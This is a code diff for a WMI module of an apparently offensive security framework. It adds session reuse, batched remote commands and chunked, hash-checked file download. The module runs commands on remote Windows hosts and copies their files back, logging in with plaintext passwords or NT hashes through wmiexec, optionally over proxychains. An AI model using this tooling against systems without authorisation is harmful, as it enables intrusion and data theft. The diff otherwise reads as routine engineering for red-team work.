@@ -1,12 +1,15 @@
 import os
+import re
+import uuid
 import shutil
 import time
 import pty
 import subprocess
 import select
 import sys
-import ntpath
-import pathlib
+import hashlib
+import threading
+from concurrent.futures import ThreadPoolExecutor
 from datetime import datetime
 import docker
 from docker import errors
@@ -14,8 +17,29 @@ from prompt_toolkit import prompt
 from prompt_toolkit.completion import NestedCompleter
 from redshell.methods import MethodBase
 from redshell.rshcompleters import BuiltinCompleter, FilesystemCompleter
-from redshell.output_formatter import print_success, print_running, print_fail
+from redshell.output_formatter import print_success, print_running, print_fail, print_progress
 from redshell.database import db_session
+from redshell.session import AttachedSession, SessionError
+from redshell import collection
+
+# Large files come over in pieces of this size, each verified and kept until the file is done
+CHUNK_SIZE = 16 * 1024 * 1024
+# Files downloaded at once by get_files(), their commands share the session's batches
+WMI_WORKERS = 4
+# Chunks are staged here on the target, lget reaches it through the C$ share
+REMOTE_TEMP = "C:\\Windows\\Temp"
+
+# Copies one byte range to a temp file and prints its SHA256
+CHUNK_SCRIPT = """
+$file = [IO.File]::Open({path}, 'Open', 'Read', 'ReadWrite')
+[void]$file.Seek({offset}, 'Begin')
+$buffer = New-Object byte[] {length}
+$read = 0
+while ($read -lt {length}) {{ $n = $file.Read($buffer, $read, {length} - $read); if ($n -eq 0) {{ break }}; $read += $n }}
+$file.Close()
+[IO.File]::WriteAllBytes({chunk}, $buffer)
+[BitConverter]::ToString([Security.Cryptography.SHA256]::Create().ComputeHash($buffer)).Replace('-', '')
+"""
 
 class WMI(MethodBase):
     NAME = "wmi"
@@ -35,6 +59,10 @@ class WMI(MethodBase):
         self.table_instance = table_instance
         self.container = None
         self.connected = False
+        # Live wmiexec shell of the connect container, reused by run_command
+        self.session = None
+        self.latencies = []
+        self.compression_stats = []
 
         self.actions = NestedCompleter.from_nested_dict({
             "show": {
@@ -43,6 +71,14 @@ class WMI(MethodBase):
                 },
                 "settings": None,
                 "tunnels": None,
+                "latency": None,
+                "compression": None,
+            },
+            "set": {
+                "compression": {
+                    "on",
+                    "off",
+                },
             },
             "connect": None,
             "shell": None,
@@ -57,15 +93,14 @@ class WMI(MethodBase):
         self.collect_path = f"{target.op_path}/files"
         self.docker_path = os.path.join(target.op_path, f"docker/wmi/{self.cred.username}_{self.cred.ctype}")
 
-        paths = [self.cmd_path, self.collect_path, self.docker_path]
-        for path in paths:
-            if not os.path.exists(path):
-                os.makedirs(path)
-
-        self.docker_build()
+        # Created on first use by setup()
+        self.paths = [self.cmd_path, self.collect_path, self.docker_path]
+        self.ready = False
 
-    def connect(self, **_):
+    def connect(self, timeout=None, **_):
+        self.setup()
         self.container_name = self.name_generator()
+        since = int(time.time())
 
         # Password
         if self.cred.ctype == 'password':
@@ -86,77 +121,107 @@ class WMI(MethodBase):
             stdin_open=True,
             remove=False,
             name=self.container_name,
-            volumes={self.collect_path: {"bind": "/data", "mode": "rw"}},
+            volumes=self.docker_volumes({self.collect_path: {"bind": "/data", "mode": "rw"}}),
         )
 
-        # Check for container to be successful or not
-        while True:
-            time.sleep(1)
-            self.container.reload()
-            if self.container.status == "exited":
-                fail_log = self.container.logs().decode("utf-8").split("\n")
-                fail_log_message = fail_log[1:-1]
-                print_fail("Failed to connect:")
-                for line in fail_log_message:
-                    print(line.strip())
-                self.table_instance.status = "Failed"
-                db_session.commit()
-                self.disconnect()
-                break
-            elif self.container.status == "running":
-                self.connected = True
-                self.table_instance.status = "Success"
-                db_session.commit()
-                break
-
-    def run_command(self, command: str, silent: bool=False, record: bool=True, shell_type="cmd") -> str:
+        # wmiexec prints this once authenticated and ready for commands
+        if self.wait_for_connect(since, timeout, markers=["Launching semi-interactive shell"]):
+            self.connected = True
+            self.session = AttachedSession(self.container_name)
+
+    def run_command(self, command: str, silent: bool=False, record: bool=True, shell_type="cmd", session: bool=True) -> str:
         if self.connected is True:
             cmd_time = datetime.now().strftime("%Y%m%d-%H%M%S")
-            command_line = f"python /usr/bin/wmiexec.py "
-            if shell_type == "cmd":
-                command_line = f"{command_line} -shell-type cmd"
-            elif shell_type == "powershell":
-                command_line = f"{command_line} -shell-type powershell"
-
-            if self.cred.ctype == "password":
-                command_line = f"{command_line} {self.cred.username}:{self.cred.cred}@{self.ip_addr} '{command}'"
-            elif self.cred.ctype == "nthash":
-                command_line = f"{command_line} -hashes :{self.cred.cred} {self.cred.username}@{self.ip_addr} '{command}'"   
-
-            # Set for proxychains
-            if self.tunnel is not None:
-                command_line = f"proxychains {command_line}"
-
-            output = self.client.containers.run(
-                self.docker_tag,
-                command_line,
-                remove=True,
-                volumes={self.collect_path: {"bind": "/data", "mode": "rw"}},
-            )
+            start = time.perf_counter()
+
+            # The wrapper runs the command through cmd, so PowerShell commands go out as they are
+            wire_command = self.compress_command(command) if shell_type == "cmd" else command
 
-            # Write command output to file with command as title
-            format_command = command.replace(" ", "_").replace(
-                "/", "_"
-            )  # replace spaces and /
-            cmd_log = f"{self.cmd_path}/{format_command}_{cmd_time}"
+            output = None
+            # The connect container runs a cmd shell, so only cmd commands can go through it
+            if session is True and shell_type == "cmd" and self.session is not None:
+                mode = "session"
+                try:
+                    output = self.session.run(wire_command)
+                except SessionError as err:
+                    print_fail(f"{err}, falling back to one-shot wmiexec")
+            if output is None:
+                mode = "oneshot"
+                output = self._run_oneshot(wire_command, shell_type)
+            self.record_latency(command, mode, start)
+            if wire_command != command:
+                output = self.decompress_output(command, output, wire_command)
 
+            # Log command output with command as title
             if record is True:
-                with open(cmd_log, "w", encoding="utf-8") as f:
-                    f.write(output.decode())
+                self.write_command_log(command, output, cmd_time)
 
             # Commit to database
-            self.write_command_to_db(command, output.decode())
+            self.write_command_to_db(command, output)
 
             # If used by shell(), just return output
             if silent is True:
-                return output.decode().strip()
-            print(output.decode().strip())
+                return output.strip()
+            print(output.strip())
             
         else:
             print("[!] Method is not connected")
 
+    def run_batch(self, commands: list) -> list:
+        """
+        Runs cmd commands as one script in a single remote execution and returns their outputs
+        in order.
+        """
+        if self.connected is not True:
+            print_fail("Method is not connected")
+            return []
+        start = time.perf_counter()
+
+        outputs = None
+        if self.session is not None:
+            mode = "session"
+            try:
+                outputs = self.run_cmd_script(commands, self.session.run)
+            except SessionError as err:
+                print_fail(f"{err}, falling back to one-shot wmiexec")
+        if outputs is None:
+            mode = "oneshot"
+            outputs = self.run_cmd_script(commands, self._run_oneshot)
+        self.record_batch(commands, outputs, mode, start)
+        return outputs
+
+    def _run_oneshot(self, command: str, shell_type="cmd") -> str:
+        """
+        Runs a command in its own wmiexec container, authenticating from scratch.
+        """
+        command_line = f"python /usr/bin/wmiexec.py "
+        if shell_type == "cmd":
+            command_line = f"{command_line} -shell-type cmd"
+        elif shell_type == "powershell":
+            command_line = f"{command_line} -shell-type powershell"
+
+        if self.cred.ctype == "password":
+            command_line = f"{command_line} {self.cred.username}:{self.cred.cred}@{self.ip_addr} '{command}'"
+        elif self.cred.ctype == "nthash":
+            command_line = f"{command_line} -hashes :{self.cred.cred} {self.cred.username}@{self.ip_addr} '{command}'"   
+
+        # Set for proxychains
+        if self.tunnel is not None:
+            command_line = f"proxychains {command_line}"
+
+        output = self.client.containers.run(
+            self.docker_tag,
+            command_line,
+            remove=True,
+            volumes=self.docker_volumes({self.collect_path: {"bind": "/data", "mode": "rw"}}),
+        )
+        return output.decode()
+
     def shell(self, **kwargs):
         if self.connected is True:
+            # Hand the terminal over to the user, run_command will reattach when needed
+            if self.session is not None:
+                self.session.close()
             self.container.reload()
             # Get container running again if shell was used and exited
             if self.container.status != 'running':
@@ -231,46 +296,152 @@ class WMI(MethodBase):
             print_fail("Method is not connected")
 
     def get_file(self, file_path, **_):
-        if self.connected is True:
-            #cmd_time = datetime.now().strftime("%Y%m%d-%H%M%S")
-            # Split file path to get remote dir and file
-            remote_dir, filename = ntpath.split(file_path)
-            # Change from Windows to Unix file path
-            new_local_dir = pathlib.PureWindowsPath(remote_dir).as_posix()
-            new_local_dir = new_local_dir.replace(":", "").lower()
-
-            collect_file_path = f"{self.collect_path}/{new_local_dir}"
-
-            # Create local dir for files to match target filesystem
-            if not os.path.exists(collect_file_path):
-                os.makedirs(collect_file_path)
-            
-            if self.cred.ctype == "password":
-                command_line = f"python /usr/bin/wmiexec.py {self.cred.username}:{self.cred.cred}@{self.ip_addr} 'lget {file_path}'"
-            elif self.cred.ctype == "nthash":
-                command_line = f"python /usr/bin/wmiexec.py -hashes :{self.cred.cred} {self.cred.username}@{self.ip_addr} 'lget {file_path}'"
+        return self.get_files([file_path])
 
-            # Set for proxychains
-            if self.tunnel is not None:
-                command_line = f"proxychains {command_line}"
+    def get_files(self, paths: list, workers: int=WMI_WORKERS, chunk_size: int=CHUNK_SIZE, **_) -> list:
+        """
+        Downloads files, wildcards and directory trees (recursively) into the collection dir in
+        chunks over the wmiexec session. Every file is checked against its SHA256 on the target,
+        an interrupted download picks up at the first chunk it is missing.
+        """
+        if self.connected is not True:
+            print_fail("Method is not connected")
+            return []
+        self.setup()
+        print_running(f"Listing and hashing {', '.join(paths)} on target...")
 
-            try:
-                print_running(f"Downloading {filename}")
-                output = self.client.containers.run(
-                    self.docker_tag,
-                    command_line,
-                    remove=True,
-                    volumes={collect_file_path: {"bind": f"/data", "mode": "rw"}},
-                )
-            except errors.ContainerError:
-                output = output.decode().strip().split("\n")[-1]
-                print_fail(f"Failed to download {file_path}")
-                print(output)
-            
-            output = output.decode().strip().split("\n")[-1]
+        listing = self._list_remote(paths)
+        if not listing:
+            print_fail("No matching files on target")
+            return []
+
+        results = {}
+        jobs = []
+        for remote_path, size, digest in listing:
+            local_path = collection.local_path(self.collect_path, remote_path)
+            if not digest:
+                results[remote_path] = {"path": remote_path, "status": "failed", "size": size, "detail": "can't be read on target"}
+            elif self.target.collection.sha256(local_path) == digest:
+                results[remote_path] = {"path": remote_path, "status": "skipped", "size": size, "detail": "unchanged"}
+            else:
+                jobs.append((remote_path, size, digest))
+
+        if jobs:
+            print_running(f"Downloading {len(jobs)} files...")
+            self.progress = {"files": 0, "bytes": 0, "total_files": len(jobs), "total_bytes": sum(job[1] for job in jobs)}
+            self.progress_lock = threading.Lock()
+            # Commands of files in flight together share the session's batches
+            with ThreadPoolExecutor(max_workers=min(workers, len(jobs))) as executor:
+                for result in executor.map(lambda job: self._get_chunked(*job, chunk_size), jobs):
+                    results[result["path"]] = result
+            print()
+
+        self.target.collection.save()
+        results = [results[remote_path] for remote_path, _, _ in listing]
+        self.show_transfers(results)
+        return results
+
+    def _list_remote(self, paths: list) -> list:
+        """
+        Expands wildcards and directories on the target and returns (path, size, sha256) for
+        every file below them. Files that can't be opened get an empty hash.
+        """
+        output = self._run_unrecorded([collection.windows_listing(paths)])[0]
+        return collection.parse_listing(output)
 
-            if output.startswith("[*] Downloading "):
-                print_success(f"Successfully downloaded {file_path}")
+    def _get_chunked(self, remote_path: str, size: int, digest: str, chunk_size: int) -> dict:
+        """
+        Downloads one file chunk by chunk and puts it together once every chunk is in.
+        """
+        local_path = collection.local_path(self.collect_path, remote_path)
+        # Keyed on the content too, so a file that changed on the target never reuses old chunks
+        chunk_key = hashlib.sha256(f"{remote_path}\n{digest}".encode()).hexdigest()
+        chunk_dir = os.path.join(self.collect_path, ".chunks", chunk_key)
+        os.makedirs(chunk_dir, exist_ok=True)
+
+        resumed = 0
+        chunks = []
+        for offset in range(0, max(size, 1), chunk_size):
+            length = min(chunk_size, size - offset)
+            chunk_path = os.path.join(chunk_dir, f"{offset // chunk_size}.part")
+            chunks.append(chunk_path)
+            # Chunks are only moved in here once their hash matched
+            if os.path.isfile(chunk_path) and os.path.getsize(chunk_path) == length:
+                resumed += length
             else:
-                print_fail(f"Failed to download {file_path}")
-                print(output)
+                error = self._get_chunk(remote_path, offset, length, chunk_path)
+                if error is not None:
+                    # Counted as done, with the bytes that will now never come
+                    self._advance(size - offset, files=1)
+                    return {"path": remote_path, "status": "failed", "size": size, "detail": f"chunk at {offset}: {error}"}
+            self._advance(length)
+
+        os.makedirs(os.path.dirname(local_path), exist_ok=True)
+        with open(f"{local_path}.part", "wb") as local_file:
+            for chunk_path in chunks:
+                with open(chunk_path, "rb") as chunk_file:
+                    shutil.copyfileobj(chunk_file, local_file)
+        shutil.rmtree(chunk_dir)
+        self._advance(0, files=1)
+
+        if collection.sha256_file(f"{local_path}.part") != digest:
+            os.remove(f"{local_path}.part")
+            return {"path": remote_path, "status": "failed", "size": size, "detail": "SHA256 mismatch"}
+        os.replace(f"{local_path}.part", local_path)
+        self.target.collection.record(local_path, digest)
+        if resumed:
+            return {"path": remote_path, "status": "resumed", "size": size, "detail": f"{resumed} bytes from an earlier run"}
+        return {"path": remote_path, "status": "downloaded", "size": size, "detail": ""}
+
+    def _get_chunk(self, remote_path: str, offset: int, length: int, chunk_path: str) -> str:
+        """
+        Copies a byte range of the file to a temp file on the target, pulls that over with lget
+        and checks its hash. Returns an error message, or None once the chunk is in place.
+        """
+        name = f"rsh_{uuid.uuid4().hex[:12]}.part"
+        remote_chunk = f"{REMOTE_TEMP}\\{name}"
+        script = CHUNK_SCRIPT.format(path=collection.ps_quote(remote_path), offset=offset, length=length, chunk=collection.ps_quote(remote_chunk))
+        hash_output, lget_output, _ = self._run_unrecorded([collection.powershell_command(script), f"lget {remote_chunk}", f"del /q {remote_chunk}"])
+
+        # lget saves into the wmiexec working dir, which is the collection dir
+        fetched = os.path.join(self.collect_path, name)
+        match = re.search(r"\b[0-9A-Fa-f]{64}\b", hash_output)
+        if match is None:
+            error = hash_output.strip().split("\n")[-1] or "no hash from target"
+        elif not os.path.isfile(fetched):
+            error = lget_output.strip().split("\n")[-1] or "lget failed"
+        elif collection.sha256_file(fetched) != match.group(0).lower():
+            error = "chunk SHA256 mismatch"
+        else:
+            os.replace(fetched, chunk_path)
+            return None
+        if os.path.isfile(fetched):
+            os.remove(fetched)
+        return error
+
+    def _advance(self, length: int, files: int=0) -> None:
+        with self.progress_lock:
+            self.progress["bytes"] += length
+            self.progress["files"] += files
+            progress = self.progress
+            print_progress(
+                f"{progress['files']}/{progress['total_files']} files, {progress['bytes'] / 2**20:.1f}/{progress['total_bytes'] / 2**20:.1f} MB",
+                progress["bytes"], progress["total_bytes"],
+            )
+
+    def _run_unrecorded(self, commands: list) -> list:
+        """
+        Runs transfer commands without logging them, over the session while it works.
+        """
+        if self.session is not None:
+            try:
+                futures = [self.session.submit(command) for command in commands]
+                return [future.result() for future in futures]
+            except SessionError as err:
+                print_fail(f"{err}, falling back to one-shot wmiexec")
+        return [self._run_oneshot(command) for command in commands]
+
+    def disconnect(self):
+        if self.session is not None:
+            self.session.close()
+        super().disconnect()